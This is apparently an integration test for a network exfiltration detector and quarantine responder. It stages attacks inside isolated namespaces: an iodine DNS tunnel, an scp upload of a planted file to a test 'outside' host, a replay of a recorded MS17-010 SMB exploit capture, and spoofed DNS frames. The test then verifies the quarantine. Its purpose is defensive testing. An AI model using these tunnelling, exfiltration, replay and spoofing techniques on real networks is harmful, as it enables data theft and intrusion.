#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""policy.py --exfild PROGRAM --exfilctl PROGRAM --responder PROGRAM: from the deciding packet to quarantine in under a second.

Seven clients on a bridge of a gateway, a server behind it with inside and outside addresses, real nftables. A daemon and a
responder on the gateway: iodine through a resolver, scp of a planted file, an attack on SMB (the content of a recorded one, over a
real connection), a connection to an address of a feed and one that no detector minds each lead, by policy, to quarantine. It ends when the
lease moves; it survives the end of each process, and ten thousand hosts at once stay inside the caps. Needs root and the tools that it names."""
import argparse
import contextlib
import datetime
import json
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

import harness
import live_net

sys.path.insert(0, harness.LAB)
import capture_io  # noqa: E402  pylint: disable=wrong-import-position

CLIENTS = ["c1", "c2", "c3", "c4", "c5", "c6", "c7"]
INSIDE, OUTSIDE, BAD = "10.73.2.20", "203.0.113.20", "203.0.113.66"
CONFIG = """
networks:
  - {name: office, prefixes: [10.73.1.0/24, "fd73:1::/64"]}
  - {name: servers, prefixes: [10.73.2.0/24, "fd73:2::/64"]}
  - {name: many, prefixes: [10.90.0.0/16]}
alerts: {rate_per_minute: 0, rule_per_minute: 0}
identity: {file: FOLDER/identity.csv}
quarantine: {mode: enforce, ttl: 1h, max: 64, per_minute: 6000, never: [10.73.2.20], socket: "FOLDER/responder.sock"}
intel: {feeds: [{name: lab, file: FOLDER/feed.txt, expires: 3650d}]}
policy: {files: [FOLDER/policy.yaml]}
"""
POLICY = "\n---\n".join(
    f"title: {name}\nname: {name}\nlogsource: {{product: exfild, category: {what}}}\ndetection: {{s: {{{search}}}, condition: s}}\n"
    f"level: high\nexfild: {{action: quarantine, target: source, ttl: {ttl}}}"
    for name, what, search, ttl in (
        ("tunnel", "alert", "rule: dns_tunnel", "1h"), ("planted", "alert", "rule: upload_volume, dst_port: 22", "1h"),
        ("sideways", "alert", "category: lateral", "1h"), ("bad-address", "alert", "'rule|startswith': 'intel:'", "6s"),
        ("forbidden", "flow", "dst_port: 2222, source_zone: office, outcome: established", "1h")))
IDENTITIES = "10.73.1.17,pc7,alice,8h\n"


def address(client):
    return f"10.73.1.1{client[1]}"


class Lab:
    """The namespaces, the two programs, and what runs for an attack."""

    def __init__(self, arguments):
        self.o = arguments
        self.nets = live_net.Nets(*CLIENTS, "g", "s")
        self.folder = tempfile.mkdtemp(prefix="exfild-policy-")
        self.socket = self.folder + "/responder.sock"
        self.responder = self.live = None
        self.children = []

    def __enter__(self):
        self.nets.__enter__()
        n = self.nets
        n.ip("g", "link add br0 type bridge")
        n.ip("g", "link set br0 up")
        for client in CLIENTS:
            live_net.sh(f"ip link add e0 netns {n.of(client)} type veth peer name p{client} netns {n.of('g')}")
            n.ip("g", f"link set p{client} master br0 up")
            n.ip(client, "link set e0 up")
            n.run(client, "ethtool -K e0 gro off gso off tso off tx off")
            n.ip(client, f"addr add {address(client)}/24 dev e0")
            n.ip(client, f"-6 addr add fd73:1::1{client[1]}/64 dev e0 nodad")
            n.ip(client, "route add default via 10.73.1.1")
            n.ip(client, "-6 route add default via fd73:1::1")
        live_net.sh(f"ip link add e0 netns {n.of('s')} type veth peer name g1 netns {n.of('g')}")
        n.ip("s", "link set e0 up")
        n.ip("g", "link set g1 up")
        for where, device, last in (("g", "br0", "10.73.1.1/24"), ("g", "g1", "10.73.2.1/24"), ("g", "g1", "203.0.113.1/24"),
                                    ("s", "e0", INSIDE + "/24"), ("s", "e0", OUTSIDE + "/24"), ("s", "e0", BAD + "/24")):
            n.ip(where, f"addr add {last} dev {device}")
        n.ip("g", "-6 addr add fd73:1::1/64 dev br0 nodad")
        n.ip("g", "-6 addr add fd73:2::1/64 dev g1 nodad")
        n.ip("s", "-6 addr add fd73:2::20/64 dev e0 nodad")
        n.ip("s", "route add default via 10.73.2.1")
        n.ip("s", "-6 route add default via fd73:2::1")
        n.run("g", "sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1")
        os.chmod(self.folder, 0o755)
        for name, text in (("exfild.yaml", CONFIG.replace("FOLDER", self.folder)), ("policy.yaml", POLICY), ("feed.txt", BAD + "\n"),
                           ("identity.csv", IDENTITIES)):
            with open(f"{self.folder}/{name}", "w", encoding="utf-8") as stream:
                stream.write(text)
            os.chmod(f"{self.folder}/{name}", 0o644)
        return self

    def __exit__(self, *_):
        for child in self.children:
            child.kill()
            child.wait()
        if self.live:
            self.live.close()
        self.stop_responder()
        self.nets.__exit__()
        shutil.rmtree(self.folder, ignore_errors=True)

    def start_responder(self):
        os.makedirs(self.folder + "/state", exist_ok=True)
        with open(self.folder + "/responder.log", "ab") as log:
            self.responder = subprocess.Popen(
                ["ip", "netns", "exec", self.nets.of("g"), self.o.responder, "-c", self.folder + "/exfild.yaml", "-s", self.socket, "-d",
                 self.folder + "/state", "-u", "nobody"], stderr=log, stdout=log)
        self.wait(lambda: self.ask("list").returncode == 0, 20)

    def stop_responder(self, number=signal.SIGKILL):
        if self.responder:
            self.responder.send_signal(number)
            self.responder.wait()
            self.responder = None

    def start(self):
        self.live = live_net.Live(self.nets, "g", self.o.exfild, "-i", "br0", "-c", self.folder + "/exfild.yaml")

    def background(self, where, *command):
        with open(self.folder + "/tools.log", "ab") as log:
            child = subprocess.Popen(["ip", "netns", "exec", self.nets.of(where), *command], stdin=subprocess.DEVNULL, stdout=log, stderr=log)
        self.children.append(child)
        return child

    def said(self):
        with open(self.folder + "/tools.log", encoding="utf-8", errors="replace") as stream:
            return stream.read()[-600:]

    def ask(self, *words):
        return subprocess.run([self.o.exfilctl, "-s", self.socket, "quarantine", *words], stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, text=True, check=False)

    def state(self):
        return json.loads(self.ask("--json", "list").stdout)

    def decisions(self):
        done = subprocess.run([self.o.exfilctl, "-s", self.socket, "--json", "quarantine", "list"], stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL, check=False)
        return [d["host"] for d in json.loads(done.stdout)["decisions"]] if done.returncode == 0 else []

    def pings(self, client, target):
        command = f"ip netns exec {self.nets.of(client)} ping -n -c 1 -W 1 {target}"
        return subprocess.run(command.split(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False).returncode == 0

    def wait(self, condition, seconds=15.0):
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            if condition():
                return True
            time.sleep(0.02)
        return bool(condition())

    def alerts(self, client=None):
        return [a for a in self.live.alerts() if client is None or a.get("source", {}).get("ip") == address(client)]

    def decided(self, client):
        """The alerts of a client by which policy asked for its quarantine."""
        return [a for a in self.alerts(client) if a["exfild"].get("policy", {}).get("action") == "quarantine"]

    def acts(self, client, word):
        return [a for a in self.alerts(client) if a["rule"]["id"] == "quarantine" and word in a["message"]]

    def connection(self, client):
        """An established TCP connection of a client to the server: (client's socket, server's)."""
        def listen():
            s = socket.socket()
            s.bind((INSIDE, 0))
            s.listen()
            return s
        listener = self.nets.inside("s", listen)

        def connect():
            s = socket.socket()
            s.settimeout(5)
            s.connect(listener.getsockname())
            return s
        near = self.nets.inside(client, connect)
        far = listener.accept()[0]
        listener.close()
        return near, far


def passes(near, far):
    far.settimeout(1)
    try:
        near.send(b"x")
        return far.recv(1) == b"x"
    except OSError:
        return False


def epoch(alert):
    stamp = alert["@timestamp"].replace("Z", "+00:00")
    return datetime.datetime.fromisoformat(stamp).timestamp()


def cut_off(check, lab, client, attack):
    """An attack, and what must come of it; others are not touched."""
    near, far = lab.connection(client)
    # a new address of IPv6 is looked for in the network for a second or two before it is used
    check(passes(near, far) and lab.pings(client, INSIDE) and lab.wait(lambda: lab.pings(client, "fd73:2::20"), 5), f"{client}: all passes before")
    attack()
    seen = [0.0]

    def is_cut_off():
        if address(client) in lab.decisions():
            seen[0] = time.time()
            return True
        return False
    if not check(lab.wait(is_cut_off, 30), f"{client}: it is cut off", ([a["message"][:90] for a in lab.alerts(client)], lab.said())):
        return
    lab.wait(lambda: lab.decided(client), 5)
    alerts = lab.decided(client)
    first = min(alerts, key=epoch)
    took = seen[0] - epoch(first)
    check(took < 1, f"{client}: {first['rule']['id']}: {took * 1000:.0f} ms from the deciding packet to quarantine, at most", took)
    policy = first["exfild"]["policy"]
    check(policy["mode"] == "enforce" and "asked" in policy["outcome"], f"{client}: the alert says so", policy)
    told = subprocess.run([lab.o.exfilctl, "-s", lab.live.control, "explain", first["exfild"]["alert_id"]], stdout=subprocess.PIPE, text=True, check=False)
    check(f"policy    {policy['rule']}: quarantine" in told.stdout, f"{client}: exfilctl explains it", told.stdout)
    check(not lab.pings(client, INSIDE) and not lab.pings(client, "fd73:2::20"), f"{client}: new connections are dead, IPv4 and IPv6")
    check(not passes(near, far), f"{client}: its connection from before is dead")
    check(lab.pings("c5", INSIDE) and lab.pings("c5", "fd73:2::20"), f"{client}: another host is not touched")
    check(lab.wait(lambda: lab.acts(client, "cut off"), 5), f"{client}: the responder's act is an alert")
    kept = subprocess.run([lab.o.exfilctl, "audit", "list", "--kind", "quarantine", "--last", "0", "--json", "--ledger", lab.live.folder + "/ledger"],
                          stdout=subprocess.PIPE, text=True, check=False)
    ours = [r for r in map(json.loads, kept.stdout.splitlines()) if r.get("host") == address(client)]
    check(kept.returncode == 0 and "added" in [r["act"] for r in ours] and ours[0]["alert"] and
          first["exfild"]["alert_id"].startswith(ours[0]["alert"]),
          f"{client}: and it is in the ledger", ours)
    near.close()
    far.close()


def tunnel(check, lab):
    """iodine through a resolver on the gateway."""
    lab.background("s", "iodined", "-f", "-c", "-P", "lab", "-l", OUTSIDE, "198.19.0.1/27", "t.example.test")
    lab.background("g", "dnsmasq", "-k", "-C", "/dev/null", "--no-resolv", "--no-hosts", "--listen-address=10.73.1.1", "--bind-interfaces",
                   f"--server=/t.example.test/{OUTSIDE}", "--cache-size=0")
    time.sleep(1)
    cut_off(check, lab, "c1", lambda: lab.background("c1", "iodine", "-f", "-P", "lab", "-r", "-T", "TXT", "-O", "Base32", "-m", "400",
                                                     "10.73.1.1", "t.example.test"))


def planted(check, lab):
    """scp of a planted file to a server outside."""
    program = shutil.which("sshd", path=os.environ.get("PATH", "") + ":/usr/sbin")
    if not program:
        print("  skipped: openssh-server is not installed")
        return
    place = lab.folder + "/ssh"
    os.makedirs(place + "/in", exist_ok=True)
    os.makedirs("/run/sshd", exist_ok=True)
    for key in ("host", "id"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{place}/{key}"], check=True)
    shutil.copy(place + "/id.pub", place + "/authorized")
    with open(place + "/planted.bin", "wb") as stream:
        stream.write(os.urandom(9 << 20))
    lab.background("s", program, "-D", "-e", "-f", "/dev/null", "-o", f"ListenAddress={OUTSIDE}:22", "-o", f"HostKey={place}/host",
                   "-o", f"AuthorizedKeysFile={place}/authorized", "-o", "StrictModes=no", "-o", "UsePAM=no", "-o",
                   "PidFile=" + place + "/pid", "-o", "Subsystem=sftp internal-sftp")
    time.sleep(1)
    cut_off(check, lab, "c2", lambda: lab.background(
        "c2", "scp", "-i", place + "/id", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
        place + "/planted.bin", f"root@{OUTSIDE}:{place}/in/"))


def conversations(path, port):
    """The TCP conversations of a capture with this port of the server: a list of lists of (from the client, bytes)."""
    flows = {}
    for frame in capture_io.read(path):
        ip = frame.data[14:]
        if frame.data[12:14] != b"\x08\x00" or ip[9] != 6:
            continue
        head = (ip[0] & 15) * 4
        tcp = ip[head:struct.unpack(">H", ip[2:4])[0]]
        ports = struct.unpack(">HH", tcp[:4])
        data = tcp[(tcp[12] >> 4) * 4:]
        if port not in ports:
            continue
        flows.setdefault(ports[0] if ports[1] == port else ports[1], [])
        if data:
            flows[ports[0] if ports[1] == port else ports[1]].append((ports[1] == port, data))
    return [flow for flow in flows.values() if flow]


def play(lab, client, flows, port):
    """Each conversation again, over a real connection; ends quietly when it is cut off."""
    def listen():
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((INSIDE, port))
        s.listen()
        s.settimeout(3)
        return s
    listener = lab.nets.inside("s", listen)

    def connect():
        s = socket.socket()
        s.settimeout(3)
        s.connect((INSIDE, port))
        return s
    try:
        for flow in flows:
            near = lab.nets.inside(client, connect)
            far = listener.accept()[0]
            far.settimeout(3)
            for by_client, data in flow:
                (near if by_client else far).sendall(data)
                left, to = len(data), far if by_client else near
                while left:
                    left -= len(to.recv(left)) or left
            near.close()
            far.close()
    except OSError:
        pass
    listener.close()


def sideways(check, lab):
    """An attack on a server of files: what smb1_ms17_010 recorded, over real connections."""
    flows = conversations(os.path.join(harness.SOURCE, "tests/replay/smb1_ms17_010/input.pcap"), 445)
    cut_off(check, lab, "c3", lambda: threading.Thread(target=play, args=(lab, "c3", flows, 445), daemon=True).start())


def listen_at(lab, host, port):
    def listen():
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((host, port))
        s.listen(512)
        s.settimeout(5)
        return s
    return lab.nets.inside("s", listen)


def visit(lab, client, listener):
    """A client connects, and both sides talk HTTP until they are cut off."""
    def connect():
        s = socket.socket()
        s.settimeout(5)
        s.connect(listener.getsockname())
        return s
    near = lab.nets.inside(client, connect)
    far = listener.accept()[0]

    def talk():
        with contextlib.suppress(OSError):
            for _ in range(20):
                near.sendall(b"GET /task HTTP/1.1\r\nHost: bad.example\r\n\r\n")
                far.recv(1000)
                far.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
                near.recv(1000)
                time.sleep(0.2)
    threading.Thread(target=talk, daemon=True).start()


def bad_address(check, lab):
    """A connection to an address of a feed; its quarantine ends by itself."""
    listener = listen_at(lab, BAD, 8080)
    cut_off(check, lab, "c4", lambda: visit(lab, "c4", listener))
    # the kernel ends an element by its own clock, a moment beside the responder's
    check(lab.wait(lambda: address("c4") not in lab.decisions(), 60) and lab.wait(lambda: lab.pings("c4", INSIDE), 3), "c4: at its end it is back")
    check(lab.wait(lambda: lab.acts("c4", "free again"), 5), "c4: and an alert says so")
    listener.close()


def connected(check, lab):
    """A connection that no detector minds, and a policy over flows does."""
    listener = listen_at(lab, INSIDE, 2222)
    cut_off(check, lab, "c7", lambda: visit(lab, "c7", listener))
    listener.close()
    revealed(check, lab)


def revealed(check, lab):
    """Whose pseudonym the alert has: told for a reason, and kept without the name."""
    users = {a["user"]["name"] for a in lab.alerts("c7") if "user" in a}
    if not check(len(users) == 1 and min(users).startswith("user-"), "c7: the alert has a pseudonym", users):
        return

    def tell(*words):
        return subprocess.run([lab.o.exfilctl, *words], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False)
    whose = ["-s", lab.live.control, "reveal", users.pop()]
    check(tell(*whose).returncode == 2, "without a reason nobody is told")
    done = tell(*whose, "--reason", "ticket 4711")
    check(done.returncode == 0 and "alice" in done.stdout, "with one it is alice", done.stdout)
    other = tell("-s", lab.live.control, "reveal", "user-0123456789abcdef", "--reason", "ticket 4711", "bob", "alice")
    check(other.returncode == 1 and "none of the users" in other.stdout, "of no name that is given, none", other.stdout)
    kept = tell("audit", "list", "--kind", "act", "--last", "0", "--json", "--ledger", lab.live.folder + "/ledger").stdout
    check("reveal" in kept and whose[-1] in kept and "ticket 4711" in kept and "alice" not in kept, "the ledger has who asked, not the name", kept)


def moved(check, lab):
    """The address is leased to another machine: its quarantine ends, that of others does not."""
    others = set(lab.decisions()) - {address("c7")}
    with open(lab.folder + "/identity.csv", "w", encoding="utf-8") as stream:
        stream.write(IDENTITIES.replace("pc7", "pc9"))
    check(lab.wait(lambda: address("c7") not in lab.decisions(), 30), "c7: its quarantine ends", lab.decisions())
    check(lab.wait(lambda: lab.pings("c7", INSIDE), 3), "c7: who has the address now is not cut off")
    check(others and others <= set(lab.decisions()), "others stay cut off", lab.decisions())
    with open(lab.folder + "/responder.log", encoding="utf-8") as stream:
        check("the address is pc9's now" in stream.read(), "the responder's log says why")


def release(check, lab):
    """An administrator's release brings a host back."""
    done = lab.ask("release", address("c3"))
    check(done.returncode == 0 and lab.wait(lambda: lab.pings("c3", INSIDE), 5), "c3: released, it is back", done.stdout)
    check(lab.wait(lambda: lab.acts("c3", "released"), 5), "c3: and an alert says so")


def udp_frame(source_mac, gateway_mac, source, target, payload, ports=(40053, 53)):
    def words(data):
        total = sum(struct.unpack(f">{len(data) // 2}H", data))
        total = (total >> 16) + (total & 0xffff)
        return ~(total + (total >> 16)) & 0xffff
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 7, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
    head = head[:10] + struct.pack(">H", words(head)) + head[12:]
    return gateway_mac + source_mac + b"\x08\x00" + head + struct.pack(">HHHH", *ports, 8 + len(payload), 0) + payload


def spoofed(check, lab):
    """Somebody speaks in the name of another host, and a resolver even answers: the victim is not cut off."""
    check(lab.pings("c5", INSIDE), "c5: the victim works")
    target = lab.nets.run("g", "cat /sys/class/net/br0/address").strip()
    mac = lab.nets.run("c6", "cat /sys/class/net/e0/address").strip()
    raw = [bytes.fromhex(m.replace(":", "")) for m in (mac, target)]
    sender = lab.nets.sender("c6", "e0")
    for i in range(200):
        label = os.urandom(30).hex().encode()
        name = bytes([len(label)]) + label + b"\x01t\x07example\x04test\x00"
        question = struct.pack(">HHHHHH", i, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1)
        sender.send(udp_frame(raw[0], raw[1], address("c5"), "10.73.1.1", question))
        time.sleep(0.005)
    lab.wait(lambda: lab.decided("c5"), 10)
    outcomes = {a["exfild"]["policy"]["outcome"] for a in lab.decided("c5")}
    check(outcomes and all(o.startswith("refused") for o in outcomes), "c5: there are alerts, and policy refuses each", outcomes)
    check(address("c5") not in lab.decisions() and lab.pings("c5", INSIDE), "c5: the victim works on")
    sender.close()


def false_resolver(check, lab):
    """Somebody asks in the name of the resolver, answers it himself, and makes it look like a tunnel's end: the resolver is not cut off."""
    resolver, me = "10.73.1.1", address("c7")
    target, mine = [bytes.fromhex(lab.nets.run(where, f"cat /sys/class/net/{device}/address").strip().replace(":", ""))
                    for where, device in (("g", "br0"), ("c7", "e0"))]
    sender = lab.nets.sender("c7", "e0")
    for i in range(300):
        label = os.urandom(30).hex().encode()
        name = bytes([len(label)]) + label + b"\x01r\x07example\x04test\x00" + struct.pack(">HH", 16, 1)
        sender.send(udp_frame(mine, target, resolver, me, struct.pack(">HHHHHH", i, 0x100, 1, 0, 0, 0) + name))
        text = os.urandom(30).hex().encode()
        answer = b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 1, len(text) + 1) + bytes([len(text)]) + text
        sender.send(udp_frame(mine, target, me, resolver, struct.pack(">HHHHHH", i, 0x8180, 1, 1, 0, 0) + name + answer, (53, 40053)))
        time.sleep(0.005)
    sender.close()

    def accused():
        return [a for a in lab.live.alerts() if a.get("source", {}).get("ip") == resolver and a["exfild"].get("policy", {}).get("action") == "quarantine"]
    # once it is learnt to be a resolver it is not even accused
    lab.wait(accused, 5)
    outcomes = {a["exfild"]["policy"]["outcome"] for a in accused()}
    check(all(o.startswith("refused") for o in outcomes), "as often as the resolver is accused it is refused, with the reason", outcomes)
    before = lab.state()["refused"]
    done = lab.ask("--reason", "a test", "add", resolver)
    check(done.returncode == 1 and "never cut off" in done.stdout, "an administrator is refused too: it is on the never-list", done.stdout)
    check(lab.state()["refused"] == before + 1 and resolver in lab.ask("log").stdout, "that is counted and told", lab.ask("log").stdout[-300:])
    check(resolver not in lab.decisions() and lab.pings("c4", resolver), "the resolver works on")


def elements(lab):
    """Hosts in the sets of IPv4 addresses of nftables."""
    text = lab.nets.run("g", "nft -j list table inet exfild")
    hosts = set()
    for part in json.loads(text)["nftables"]:
        for element in part.get("set", {}).get("elem", []):
            value = element["elem"]["val"] if isinstance(element, dict) and "elem" in element else element
            if isinstance(value, str) and "." in value:
                hosts.add(value)
    return hosts


def killed(check, lab):
    """kill -9 of each process: sets equal decisions, and the next attack is answered."""
    before = set(lab.decisions())
    check(address("c1") in before and elements(lab) == before, "sets equal decisions", (before, elements(lab)))
    for name in ("capture", "core"):
        pid = next((pid for what, pid in lab.live.pids().items() if name in what), None)
        if check(pid, f"{name}: it runs", lab.live.pids()):
            os.kill(pid, signal.SIGKILL)
            time.sleep(2)
            check(set(lab.decisions()) == before == elements(lab), f"{name} killed: sets equal decisions")
    lab.stop_responder()
    check(not lab.pings("c1", INSIDE), "responder killed: what was cut off stays so")
    lab.start_responder()
    check(set(lab.decisions()) == before == elements(lab), "and started: sets equal decisions", (before, elements(lab)))
    os.kill(lab.live.pid(), signal.SIGKILL)
    lab.live.child.wait()
    check(set(lab.decisions()) == before == elements(lab), "parent killed, and all of it ends: sets equal decisions")
    lab.live.close()
    lab.start()
    check(set(lab.decisions()) == before == elements(lab), "and started: sets equal decisions")


def away(check, lab):
    """A responder that is away: traffic flows, and the alert says so."""
    lab.stop_responder()
    # the daemon finds out within a second
    time.sleep(2.5)
    flows = conversations(os.path.join(harness.SOURCE, "tests/replay/smb_admin_copy/input.pcap"), 445)
    play(lab, "c6", flows, 445)
    lab.wait(lambda: lab.decided("c6"), 15)
    outcomes = [a["exfild"]["policy"]["outcome"] for a in lab.decided("c6")]
    check(outcomes and "traffic flows" in outcomes[0], "the alert says that traffic flows", outcomes)
    check(lab.pings("c6", INSIDE), "and it does")
    check(lab.wait(lambda: lab.acts("c6", "could not be cut off"), 10), "an alert of its own says that nobody was cut off")
    lab.start_responder()


def burst(check, lab):
    """Ten thousand hosts at once do what a policy cuts off: caps hold, sets equal decisions."""
    hosts = 10000
    lab.nets.ip("c6", "route add local 10.90.0.0/16 dev lo")
    lab.nets.ip("g", f"route add 10.90.0.0/16 via {address('c6')}")
    listener = listen_at(lab, BAD, 8081)
    most, done = [0], threading.Event()

    def serve():
        with contextlib.suppress(OSError):
            for _ in range(hosts):
                far = listener.accept()[0]
                far.recv(100)
                far.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
                far.close()

    def attack():
        reached = 0
        for i in range(hosts):
            with contextlib.suppress(OSError), socket.socket() as near:
                near.settimeout(1)
                near.bind((f"10.90.{i >> 8}.{i & 255}", 0))
                near.connect((BAD, 8081))
                near.sendall(b"GET / HTTP/1.1\r\nHost: bad.example\r\n\r\n")
                reached += near.recv(100) != b""
        return reached

    def watch():
        while not done.wait(0.1):
            most[0] = max(most[0], len(lab.decisions()))
    threads = [threading.Thread(target=each, daemon=True) for each in (serve, watch)]
    for thread in threads:
        thread.start()
    reached = lab.nets.inside("c6", attack)
    asked = lab.wait(lambda: counted(lab, "decided") >= hosts, 30)
    done.set()
    threads[1].join()
    check(reached == hosts, f"{reached} of {hosts} connections work", reached)
    check(asked, f"each is decided: {counted(lab, 'decided')}")
    check(0 < most[0] <= 64, f"at most {most[0]} are cut off at once, of 64 allowed", most[0])
    check(lab.wait(lambda: set(lab.decisions()) == elements(lab), 10), "sets equal decisions", (lab.decisions(), elements(lab)))
    check(lab.pings("c5", INSIDE), "c5: nobody else is touched")
    listener.close()


def counted(lab, name):
    """A counter of policies, as exfilctl stats has it."""
    done = subprocess.run([lab.o.exfilctl, "-s", lab.live.control, "--json", "stats"], stdout=subprocess.PIPE, check=False)
    told = json.loads(done.stdout) if done.returncode == 0 else {}
    return told.get("result", told).get("policy", {}).get(name, 0)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    for name in ("exfild", "exfilctl", "responder"):
        parser.add_argument("--" + name, required=True)
    parser.add_argument("--only", action="append", default=[])
    arguments = parser.parse_args()
    live_net.need()
    for tool in ("nft", "conntrack", "ping", "iodine", "iodined", "dnsmasq", "scp", "ssh-keygen"):
        if not shutil.which(tool):
            harness.skip(f"{tool} is not installed")
    check = harness.Checks()
    with contextlib.ExitStack() as stack:
        lab = stack.enter_context(Lab(arguments))
        lab.start_responder()
        lab.start()
        for part in (tunnel, planted, sideways, bad_address, connected, moved, release, spoofed, false_resolver, killed, away, burst):
            if arguments.only and part.__name__ not in arguments.only:
                continue
            print(f"{part.__name__}: {part.__doc__}", flush=True)
            try:
                part(check, lab)
            except Exception as error:  # pylint: disable=broad-except
                check(False, part.__name__, f"{type(error).__name__}: {error}; {lab.live.err()[-800:]}")
    return check.end()


if __name__ == "__main__":
    raise SystemExit(main())
